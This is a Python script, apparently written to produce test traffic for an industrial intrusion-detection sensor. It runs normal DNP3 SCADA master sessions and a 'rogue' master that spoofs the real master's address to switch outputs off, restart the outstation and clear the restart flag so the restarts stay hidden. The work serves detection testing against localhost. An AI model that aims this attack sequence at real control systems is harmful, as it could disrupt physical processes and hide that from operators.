#!/usr/bin/env python3
"""DNP3 masters for the OTSensor attack-dnp3 capture (py1815 0.3.0, master address 2).

Talks to attack_outstation.py (address 1). One run is one connection, as one of
two roles, chosen by the first argument:

  scada-start  the SCADA master at 127.0.0.1 comes up: DISABLE_UNSOLICITED
               (FC 21), integrity poll (READ class 1,2,3,0), time write (WRITE
               g50v1), clear restart (WRITE g80v1), then two more integrity polls.
               These are the routine start-up requests the role-scoped rules
               must leave alone when they come from a master.
  scada-poll   the SCADA master again: one integrity poll.
  rogue        a rogue master at 127.0.0.2 (the socket is bound to that source
               address) using the real master's link address 2:
               DISABLE_UNSOLICITED (FC 21); DIRECT_OPERATE (FC 5) of a CROB
               latch-off on BO 0; DIRECT_OPERATE_NR (FC 6) of a CROB latch-off on
               BO 1, which the outstation does not answer; STOP_APPLICATION
               (FC 18) for all applications (g90v1, qualifier 0x06), which the
               outstation refuses with IIN2.0; WARM_RESTART (FC 14); COLD_RESTART
               (FC 13); and WRITE g80v1 index 7 = 0 (FC 2), clearing the
               device-restart indication the restarts set, to hide them.

Every request is made through py1815's master API: restart(), operate(),
disable_unsolicited(), clear_restart(), write_time(), integrity_poll(). STOP_APPLICATION
has no method of its own, so it goes through py1815's request(function, body)
with the object header built by py1815's all_objects_header(90, 1); py1815
frames, sequences and checks it like any other request. Nothing is written to
the socket by hand.

py1815's master opens its socket with asyncio.open_connection(host, port) and
has no source-address setting, so for the rogue role this script gives that
call local_addr=("127.0.0.2", 0) (the process is the rogue master only).

Prints one line per exchange; exits non-zero if an answer was not as expected.

Usage: attack_master.py scada-start|scada-poll|rogue [HOST] [PORT]   (default 127.0.0.1 20000)
"""

import asyncio
import functools
import sys

from py1815.application import FunctionCode, IIN2Bit, IINBit, all_objects_header
from py1815.master import Master
from py1815.master.association import Outcome

ROLE = sys.argv[1] if len(sys.argv) > 1 else ""
HOST = sys.argv[2] if len(sys.argv) > 2 else "127.0.0.1"
PORT = int(sys.argv[3]) if len(sys.argv) > 3 else 20000
SOURCE = {"scada-start": "127.0.0.1", "scada-poll": "127.0.0.1", "rogue": "127.0.0.2"}
OUTSTATION, MASTER = 1, 2
failures: list[str] = []


def iin_text(iin) -> str:
    return "-" if iin is None else f"{iin.first:02x}{iin.second:02x}"


def check(step: str, exchange, *, outcome=Outcome.COMPLETE, iin1=0, iin2=0, ok=True) -> None:
    """One line per exchange: the outcome and the IIN octets (class 1/2 event bits aside) must be as expected."""
    iin = exchange.iin
    good = ok and exchange.outcome is outcome and (
        iin is None if outcome is not Outcome.COMPLETE
        else iin.first & ~(IINBit.CLASS_1_EVENTS | IINBit.CLASS_2_EVENTS) == iin1 and iin.second == iin2)
    print(f"{'OK ' if good else 'BAD'} {ROLE:<11} seq={exchange.sequence:<2} {step:<46} "
          f"{exchange.outcome.value:<8} iin={iin_text(iin)}", flush=True)
    if not good:
        failures.append(step)


async def scada_start(os_) -> None:
    check("DISABLE_UNSOLICITED classes 1,2,3", await os_.disable_unsolicited(),
          iin1=IINBit.DEVICE_RESTART | IINBit.NEED_TIME)
    check("READ class 1,2,3,0 (integrity poll)", await os_.integrity_poll(),
          iin1=IINBit.DEVICE_RESTART | IINBit.NEED_TIME)
    check("WRITE g50v1 (time)", await os_.write_time(), iin1=IINBit.DEVICE_RESTART)
    check("WRITE g80v1 index 7 = 0 (clear restart)", await os_.clear_restart())
    for _ in range(2):
        await asyncio.sleep(0.3)
        check("READ class 1,2,3,0 (integrity poll)", await os_.integrity_poll())


async def scada_poll(os_) -> None:
    # The rogue cleared the restart indication: nothing here shows the restarts.
    check("READ class 1,2,3,0 (integrity poll)", await os_.integrity_poll())


async def rogue(os_) -> None:
    check("DISABLE_UNSOLICITED classes 1,2,3", await os_.disable_unsolicited())
    operated = await os_.operate(binary_outputs={0: "latch_off"}, mode="direct")
    check("DIRECT_OPERATE g12v1 BO 0 latch off", operated.exchanges[-1], ok=operated.accepted is True)
    operated = await os_.operate(binary_outputs={1: "latch_off"}, mode="direct_no_ack")
    check("DIRECT_OPERATE_NR g12v1 BO 1 latch off", operated.exchanges[-1], outcome=Outcome.SENT)
    await asyncio.sleep(0.3)  # no answer comes; let the outstation act first
    check("STOP_APPLICATION g90v1 all (q 0x06)",
          await os_.request(FunctionCode.STOP_APPLICATION, all_objects_header(90, 1)),
          iin2=IIN2Bit.FUNC_NOT_SUPPORTED)
    check("WARM_RESTART", await os_.restart("warm"))
    check("COLD_RESTART", await os_.restart("cold"), iin1=IINBit.DEVICE_RESTART)
    check("WRITE g80v1 index 7 = 0 (clear restart)", await os_.clear_restart())


async def main() -> int:
    steps = {"scada-start": scada_start, "scada-poll": scada_poll, "rogue": rogue}
    if ROLE not in steps:
        print(__doc__, file=sys.stderr)
        return 64
    if ROLE == "rogue":
        asyncio.open_connection = functools.partial(asyncio.open_connection,
                                                    local_addr=(SOURCE[ROLE], 0))
    async with Master() as m:
        os_ = await m.add("rtu", host=HOST, port=PORT, outstation_address=OUTSTATION,
                          master_address=MASTER, manual=True, reconnect=None, wait=5)
        await steps[ROLE](os_)
        await asyncio.sleep(0.2)
    print(f"summary: {len(failures)} unexpected", flush=True)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
